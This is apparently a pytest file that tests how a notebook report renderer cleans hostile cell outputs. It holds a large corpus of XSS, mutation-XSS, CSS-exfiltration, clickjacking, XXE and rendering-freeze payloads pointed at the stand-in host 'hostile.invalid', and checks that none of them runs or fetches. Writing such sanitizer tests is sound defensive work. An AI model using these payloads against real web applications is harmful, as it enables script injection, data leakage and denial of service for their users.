"""Hostile outputs of cells in a report, with its content security policy and without: the cleaning alone must do."""

from __future__ import annotations

import base64
import io
import itertools
import re
import time
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from chromium import Page
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image
from records import a_run

from workbench.reports.html import render

AWAY = "https://hostile.invalid/x"
RUN = "window.hacked=1"
SVG = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='60'"
SECONDS = 90.0
"""Longest that a page of such drawings may take to clean, to load and to paint, beside other work."""


def hexed(text: str) -> str:
    return "".join(f"\\{ord(c):x} " for c in text)


FUNCTIONS = [
    "url({})",
    "url('{}')",
    "URL({})",
    "url( {} )",
    hexed("url") + "({})",
    hexed("u") + "rl('{}')",
    "ur\\l({})",
    "image-set('{}' 1x)",
    "-webkit-image-set(url({}) 1x)",
    "image('{}')",
    "src('{}')",
    "element(url({}))",
    "cross-fade(url({}), red, 50%)",
    "-webkit-cross-fade(url({}), url({}), 50%)",
    "var(--none, url({}))",
    "linear-gradient(red, blue), url({})",
    "paint(url({}))",
    "\\69 mage-set('{}' 1x)",
    "u\\\nrl({})",
]
FETCHING = [
    "background",
    "background-image",
    "list-style-image",
    "border-image",
    "content",
    "cursor",
    "mask",
    "-webkit-mask",
    "filter",
    "clip-path",
    "shape-outside",
    "fill",
    "stroke",
    "marker-start",
    "color-profile",
    "offset-path",
    "behavior",
]
AT_RULES = [
    "@import '{}';",
    "@import url({});",
    "@\\69mport '{}';",
    "@font-face {{ font-family: x; src: url({}) }} * {{ font: 9px x }}",
    "@namespace url({});",
    "@media all {{ * {{ background: url({}) }} }}",
    "@supports (color: red) {{ * {{ background: url({}) }} }}",
    "@layer a {{ body {{ background: url({}) }} }}",
    "body {{ background: url({}) }}",
    "</style><img src={}>",
    "*::before {{ content: url({}) }}",
    "a {{}} }} body {{ background: url({}) }}",
    "@charset 'x'; @import '{}';",
    "* {{ & {{ background: url({}) }} }}",
    "<!-- @import '{}'; -->",
    "<![CDATA[ @import '{}'; ]]>",
    ":root {{ --a: url({}); background: var(--a) }}",
]
COVERING = [
    "position: fixed; inset: 0; background: red",
    "position: absolute; top: 0; left: 0; width: 2000px; height: 9999px",
    "position: sticky; top: 0; height: 900px",
    "p\\6fsition: fixed; inset: 0",
    "POSITION: FIXED; inset: 0; z-index: 99999",
    "position:/**/fixed; inset: 0",
    "margin: -900px 0 0 -900px; padding: 900px",
    "margin-top: -600px; height: 600px; background: red",
    "transform: scale(50)",
    "translate: 0 -500px",
    "scale: 40",
    "zoom: 40",
    "box-shadow: 0 0 0 9999px red",
    "outline: 9999px solid red",
    "padding: 2000px; background: red",
    "border: 2000px solid red",
    "text-decoration: underline 900px red",
    "line-height: 0; font-size: 900px",
    "font: 900px/0 serif",
    "height: 0; font-size: 900px",
    "text-indent: -900px",
    "letter-spacing: -99px",
    "vertical-align: 900px",
    "float: left; width: 2000px; height: 9999px",
    "text-shadow: 0 0 900px red, 0 400px red",
    "-webkit-text-stroke: 900px red",
    "animation: x 1s infinite",
    "filter: blur(900px)",
    "backdrop-filter: blur(9px)",
    "display: block; inset: 0; anchor-name: --x",
    "all: unset; position: fixed",
    "contain: none; overflow: visible; height: 1px",
    "--x: fixed; position: var(--x)",
]
HANDLERS = [
    "onload",
    "onerror",
    "onclick",
    "ontoggle",
    "onbegin",
    "onfocus",
    "onanimationstart",
    "ONLOAD",
    "on\x00load",
]
LINKS = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "java&#9;script:{}",
    "&#x6A;avascript:{}",
    "javascript&colon;{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "view-source:javascript:{}",
    "data:image/svg+xml,<svg onload={}>",
    "jAvAsCrIpT&#58;{}",
    "feed:javascript:{}",
    "java\x00script:{}",
    "blob:{}",
    "\u00a0javascript:{}",
]
ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src='{AWAY}'></script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='{AWAY}'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}'>",
    f"<link rel=prefetch href='{AWAY}'>",
    f"<base href='{AWAY}'><a href='y'>a</a>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action='{AWAY}' id=filter><input name=nodeName autofocus onfocus={RUN}></form>",
    f"<img srcset='{AWAY} 1x'>",
    f"<picture><source srcset='{AWAY}'><img></picture>",
    f"<video poster='{AWAY}' src='{AWAY}' autoplay></video>",
    f"<audio src='{AWAY}' autoplay></audio>",
    f"<table background='{AWAY}'><td background='{AWAY}'>x</table>",
    f"<body background='{AWAY}'>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<svg><style>@import '{AWAY}';</style></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
    f"<math><maction actiontype='statusline#{AWAY}'><mi>x</mi></maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<p title='<table onclick={RUN} x'>t</p>",
    f"<p title='<table><script>{RUN}</script>'>t</p>",
    f"<img alt='</td><td><script>{RUN}</script>' src=data:,>",
    "<img name=filter><a id=cards name=forms></a><p id=section-1>x</p><p id=cell-1>y</p>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<div></div></div></section></main><script>{RUN}</script>",
    f"<portal src='{AWAY}'></portal>",
    f"<frameset><frame src='{AWAY}'></frameset>",
    f"<input type=image src='{AWAY}'>",
    f"<isindex action='{AWAY}'>",
    f"<a ping='{AWAY}' href='#'>p</a>",
    f"<button formaction='javascript:{RUN}'>b</button>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<plaintext><script>{RUN}</script>",
    f"<select><option><style></option></select></style><img src=x onerror={RUN}></select>",
    "<dialog open style='position:fixed'>d</dialog>",
    "<div popover id=p>p</div><button popovertarget=p autofocus>b</button>",
    "<iframe>" * 9,
    "</div>" * 40 + f"<nav style='position:fixed'>n</nav><img src='{AWAY}'>",
]
DRAWN = [
    f"<script>{RUN}</script>",
    f"<script href='{AWAY}'/>",
    f"<image href='{AWAY}' width='9' height='9'/>",
    f"<image xlink:href='{AWAY}' width='9' height='9'/>",
    f"<image href='data:image/svg+xml,&lt;svg onload=&quot;{RUN}&quot;/>' width='9' height='9'/>",
    f"<feImage href='{AWAY}'/>",
    f"<filter id='f'><feImage xlink:href='{AWAY}'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    f"<use href='{AWAY}#a'/>",
    f"<use xlink:href='{AWAY}#a'/>",
    f"<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot; onload=&quot;{RUN}&quot;/>#a'/>",
    f"<a href='javascript:{RUN}'><text y='9'>a</text></a>",
    f"<a xlink:href='javascript:{RUN}'><text y='9'>a</text></a>",
    f"<a><set attributeName='href' to='javascript:{RUN}'/><text y='9'>a</text></a>",
    f"<animate onbegin='{RUN}' attributeName='x' dur='1s'/>",
    f"<image><animate attributeName='href' values='{AWAY};{AWAY}2' dur='1s'/></image>",
    f"<g xml:base='{AWAY}'><use href='#a'/></g>",
    f"<foreignObject width='90' height='90'><iframe src='{AWAY}'/></foreignObject>",
    f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{RUN}</h:script>",
    f"<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='{RUN}'/>",
    f"<e:script xmlns:e='http://www.w3.org/2000/svg'>{RUN}</e:script>",
    f"<title><img src='x' onerror='{RUN}'/></title>",
    f"<desc><script>{RUN}</script></desc>",
    f"<style><![CDATA[</style><script>{RUN}</script>]]></style>",
    f"<handler>{RUN}</handler>",
    f"<linearGradient id='g' href='{AWAY}#g'/><rect width='9' height='9' fill='url(#g)'/>",
    f"<pattern id='p' xlink:href='{AWAY}#p'/>",
    f"<text><textPath href='{AWAY}#t'>x</textPath></text>",
    f"<mpath href='{AWAY}'/>",
    f"<cursor href='{AWAY}'/>",
    f"<audio src='{AWAY}'/>",
    f"<font-face><font-face-src><font-face-uri href='{AWAY}'/></font-face-src></font-face>",
    f"<tref href='{AWAY}#t'/>",
    f"<discard onbegin='{RUN}'/>",
]
HEADS = [
    f"<!DOCTYPE svg [<!ENTITY x '<script>{RUN}</script>'>]><svg {SVG}>&x;</svg>",
    f"<!DOCTYPE svg SYSTEM '{AWAY}'><svg {SVG}/>",
    f"<?xml-stylesheet href='{AWAY}'?><svg {SVG}/>",
    f"<!DOCTYPE svg [<!ENTITY % x SYSTEM '{AWAY}'> %x;]><svg {SVG}/>",
    f"<svg {SVG} onload='{RUN}' style='position:fixed;top:0;left:0;width:100vw;height:100vh'/>",
    f"<svg {SVG} transform='scale(90)' overflow='visible'><rect x='-900' y='-900' width='9999' height='999'/></svg>",
    f"<svg {SVG} style='overflow:visible;transform:scale(90)'><rect width='9999' height='999'/></svg>",
    f"<h:div xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{RUN}</h:script></h:div>",
    "<svg><g></svg>",
    "\ud800<svg/>",
    "<svg width='1e9' height='1e9'/>",
]


def styled(css: str) -> Iterator[tuple[str, str]]:
    """One declaration in each place that a style can have."""
    quoted = css.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    yield "text/html", f'<span style="{quoted}">x</span>'
    yield "text/html", f"<style>p, .output, body {{ {css} }}</style><p>x</p>"
    yield "image/svg+xml", f'<svg {SVG}><rect width="9" height="9" style="{quoted}"/></svg>'
    yield "image/svg+xml", f"<svg {SVG}><style>rect, main * {{ {css} }}</style><rect width='9' height='9'/></svg>"


def payloads() -> Iterator[tuple[str, str]]:
    """Kind and text of every hostile output."""
    for name, form in itertools.product(FETCHING, FUNCTIONS):
        if (
            FETCHING.index(name) < 2
            or FUNCTIONS.index(form) % len(FETCHING) == FETCHING.index(name)
            or form == "url({})"
        ):
            yield from styled(f"{name}: {form.replace('{}', AWAY)}")
            value = form.replace("{}", AWAY).replace('"', "&quot;")
            yield "image/svg+xml", f'<svg {SVG}><rect width="9" height="9" {name}="{value}"/></svg>'
    for rule in AT_RULES:
        yield "text/html", f"<style>{rule.format(AWAY)}</style>"
        yield "image/svg+xml", f"<svg {SVG}><style>{rule.format(AWAY)}</style></svg>"
    for css in COVERING:
        yield from styled(css)
    for handler in HANDLERS:
        yield "text/html", f"<img src=x {handler}={RUN}><p {handler}='{RUN}'>x</p><details open/{handler}={RUN}>"
        yield "image/svg+xml", f"<svg {SVG} {handler}='{RUN}'><rect {handler}='{RUN}' width='9' height='9'/></svg>"
    for link in LINKS:
        target = link.format(RUN)
        yield "text/html", f'<a href="{target}">a</a><area href="{target}"><math href="{target}"><mi>x</mi></math>'
        yield "text/markdown", f"[a]({target}) <{target}> [b][c]\n\n[c]: {target}\n\n![i]({target})"
        yield "text/latex", rf"$\href{{{target}}}{{x}} \class{{x}}{{y}} \style{{position:fixed}}{{z}}$"
        yield "image/svg+xml", f'<svg {SVG}><a xlink:href="{target}"><text y="9">a</text></a></svg>'
    for element in ELEMENTS:
        for kind in ("text/html", "text/markdown", "text/plain"):
            yield kind, element
        yield (
            "text/markdown",
            f"```mermaid\n{element}\n```\n\n# {element}\n\n| a |\n|---|\n| {element} |\n\n$\\text{{{element}}}$",
        )
    for part in DRAWN:
        yield "image/svg+xml", f"<svg {SVG}>{part}</svg>"
        yield "text/html", f"<svg {SVG}>{part}</svg>"
    for head in HEADS:
        yield "image/svg+xml", head
        yield "text/html", head


def doubling(element: str, refer: str, levels: int = 14, times: int = 10) -> str:
    """A drawing in which each symbol is drawn from ten of the one before."""
    parts = [f"<{element} id='s0' width='1' height='1'><rect width='9' height='9'/></{element}>"]
    for level in range(1, levels):
        inner = "".join(refer.format(level - 1) for _ in range(times))
        parts.append(f"<{element} id='s{level}' width='1' height='1'>{inner}</{element}>")
    return f"<svg {SVG}>{''.join(parts)}{refer.format(levels - 1)}</svg>"


def bomb(side: int) -> str:
    """A picture of few bytes and many pixels."""
    content = io.BytesIO()
    Image.new("1", (side, side)).save(content, "png")
    return base64.b64encode(content.getvalue()).decode()


RECT = "<rect width='9' height='9'/>"
NESTED = "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in itertools.pairwise("abcdefghij"))
BLUR = "<filter id='f'><feGaussianBlur stdDeviation='900'/></filter>" + "<g filter='url(#f)'>" * 50 + RECT
FREEZING = [
    doubling("g", "<use href='#s{}'/>"),
    doubling("symbol", "<use href='#s{}'/>"),
    doubling("g", "<use href='#s{}'/>", 400, 1),
    doubling("pattern", "<rect width='9' height='9' fill='url(#s{})'/>"),
    doubling("pattern", "<rect width='9' height='9' style='fill: url(#s{})'/>"),
    doubling("mask", "<rect width='9' height='9' mask='url(#s{})'/>"),
    doubling("marker", "<path d='M0 0L1 1L2 2L3 3' marker-mid='url(#s{})'/>"),
    doubling("filter", "<rect width='9' height='9' filter='url(#s{})'/>"),
    doubling("clipPath", "<rect width='9' height='9' clip-path='url(#s{})'/>"),
    f"<svg {SVG}><pattern id='p' width='1' height='1'><g fill='url(#p)'>{RECT}</g></pattern></svg>",
    f"<svg {SVG}><g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g><use href='#a'/></svg>",
    f"<svg {SVG}>{'<g>' * 30_000}</svg>",
    f"<svg {SVG}>{RECT * 100_000}</svg>",
    f"<svg {SVG}>" + "<path d='M0 0H1e9V1e9H0Z' fill='none' stroke='red' stroke-dasharray='1e-9'/>" * 300 + "</svg>",
    f"<svg {SVG}>" + "<path d='M0 0H1e9' stroke='red' style='stroke-dasharray: 0.0001 0.0001'/>" * 300 + "</svg>",
    f"<svg {SVG} viewBox='0 0 1 1000000'><rect width='1' height='1000000'/></svg>",
    "<div>" * 50_000,
    "<b>x" * 90_000,
    "<table><td>" * 20_000,
    f"<svg {SVG}>{BLUR}{'</g>' * 50}</svg>",
    "<style>" + "* ~ * ~ * ~ * ~ * ~ * ~ .z { color: red }" * 50 + "</style>" + "<i>x</i>" * 5_000,
    "<style>" + ":not(" * 50_000 + "</style>",
    "<style>" + "a{" * 100_000 + "</style>",
    "<p style='" + "(" * 4_900 + "'>x</p>",
    "<p style='" + "rgb(" * 1_200 + "'>x</p>",
    "<style>" + "/*" * 60_000,
    "<!--" * 60_000,
    "<" * 50_000,
    "<a " * 60_000,
    "<a b='" * 50_000,
    "<![CDATA[" * 50_000,
    "<style>" * 50_000,
    "<a =" * 50_000,
    "</x" * 50_000,
    "<x " + "a " * 90_000,
    f"<!DOCTYPE svg [<!ENTITY a 'x'>{NESTED}]><svg {SVG}><text>&j;</text></svg>",
]
MARKDOWN = [
    "[" * 20_000,
    "*a **b " * 8_000,
    "> " * 5_000,
    "- " * 5_000,
    "$" * 50_000,
    "$\\frac{" * 3_000,
    "`" * 30_001,
    "![" * 20_000,
    "<" * 50_000,
    "| a " * 9_000 + "\n" + "|--" * 9_000,
    "$\\hspace{-99999px}x$ $" + "{" * 900 + "$",
]


def report(outputs: list[Any]) -> str:
    """A report whose cells have these outputs, between paragraphs of its own."""
    cells: list[Any] = [new_markdown_cell("# Title\n\n## One"), new_markdown_cell("## Two")]
    for number in range(0, len(outputs), 20):
        cells += [new_markdown_cell(f"Paragraph {number}."), new_code_cell("1", outputs=outputs[number : number + 20])]
    attached = new_markdown_cell("![a](attachment:a.svg)")
    picture = base64.b64encode(f"<svg xmlns='x' onload='{RUN}'/>".encode()).decode()
    attached["attachments"] = {"a.svg": {"image/svg+xml": picture, "text/html": f"<script>{RUN}</script>"}}
    return render(a_run(facts={e: e for e in ELEMENTS}), new_notebook(cells=[*cells, attached]))


def displayed(texts: Iterable[tuple[str, str]]) -> list[Any]:
    return [new_output("display_data", data={kind: text}) for kind, text in texts]


def opened(page: Page, folder: Path, text: str, policy: bool) -> str:
    """Open a report as it is, or without its policy."""
    if not policy:
        text, count = re.subn(r"<meta http-equiv=\"Content-Security-Policy\".*?>", "", text)
        assert count == 1
    (folder / "report.html").write_text(text, encoding="utf-8")
    page.open(address := (folder / "report.html").as_uri())
    return address


FOUND = """(() => {
  const found = [], say = (what, e) => found.push(`${what}: ${e.outerHTML.slice(0, 200)}`);
  for (const e of document.querySelectorAll("main .output *")) {
    const s = getComputedStyle(e), moved = !e.ownerSVGElement && s.transform !== "none";
    if (s.position !== "static" || s.zIndex !== "auto") say("position", e);
    if (s.float !== "none" || s.boxShadow !== "none" || s.textShadow !== "none") say("look", e);
    if (s.animationName !== "none" || s.backdropFilter !== "none") say("moves", e);
    if (moved || s.outlineStyle !== "none" || parseFloat(s.marginTop) < -20) say("leaves", e);
    for (const { name } of e.attributes) {
      if (/^(on|srcset|srcdoc|name$|action|formaction|ping)/i.test(name)) say(name, e);
    }
  }
  const known = /^(#|https?:|mailto:|data:image\\/(png|jpeg|gif|webp);|[^:<>]+$)/;
  for (const a of document.querySelectorAll("[href]")) {
    if (!known.test(a.getAttribute("href"))) say("link", a);
  }
  const sheets = document.querySelectorAll("style:not(.output > style)");
  if (document.querySelectorAll("script").length !== 1 || sheets.length !== 1) found.push("scripts");
  const never = "iframe, object, embed, form, base, link, foreignObject, animate, set, template, input, textarea";
  for (const e of document.querySelectorAll(never)) say("element", e);
  const ids = [...document.querySelectorAll("[id]")].map((e) => e.id);
  const twice = ids.filter((id, i) => ids.indexOf(id) !== i);
  if (twice.length) found.push(`ids twice: ${twice.slice(0, 5)}`);
  for (const p of document.querySelectorAll("main > p, main > h2")) {
    p.scrollIntoView({ block: "center", behavior: "instant" });
    const box = p.getBoundingClientRect();
    const at = document.elementFromPoint(box.left + 9, box.top + box.height / 2);
    if (!p.contains(at)) say("covered by", at || p);
  }
  return found;
})()"""


@pytest.fixture(scope="module")
def hostile() -> str:
    texts = list(payloads())
    assert len(texts) > 800
    return report(displayed(texts))


both = pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without"])


@both
def test_nothing_runs_is_fetched_goes_elsewhere_or_covers(
    page: Page, tmp_path: Path, hostile: str, policy: bool
) -> None:
    address = opened(page, tmp_path, hostile, policy)
    assert page.run("location.href") == address and page.run("window.hacked") is None
    assert page.run(FOUND) == []
    assert [url for url in page.requests if url != address and not url.startswith("data:")] == []
    assert page.complaints == []


def test_nothing_freezes(page: Page, tmp_path: Path) -> None:
    texts = [("image/svg+xml" if text.startswith("<svg") else "text/html", text) for text in FREEZING]
    texts += [("image/svg+xml", doubling("g", "<use href='#s{}'/>", levels=4))] * 60 + [("image/png", bomb(9_000))] * 60
    texts += [("text/html", f"<img src='data:image/png;base64,{bomb(9_000)}'>")] * 60
    start = time.monotonic()
    opened(page, tmp_path, report(displayed([*texts, *(("text/markdown", text) for text in MARKDOWN)])), policy=False)
    for part in range(5):
        page.run(f"scrollTo({{top: document.body.scrollHeight * {part / 5}, behavior: 'instant'}})")
        page.call("Page.captureScreenshot", format="jpeg")
    assert time.monotonic() - start < SECONDS
    assert page.run("document.body.scrollHeight") < 1_000_000


def test_what_does_run_and_fetch_and_cover_would_be_noticed(page: Page, tmp_path: Path, hostile: str) -> None:
    bad = f"<img src='{AWAY}' onerror='{RUN}'><p style='position: fixed; inset: 0; background: red'>x</p>"
    address = opened(page, tmp_path, hostile.replace("<main>", f"<main><div class=output>{bad}</div>"), policy=False)
    assert page.run("window.hacked") == 1 and AWAY in page.requests and page.requests[0] == address
    found = page.run(FOUND)
    assert any(what.startswith("position") for what in found) and any(what.startswith("covered") for what in found)
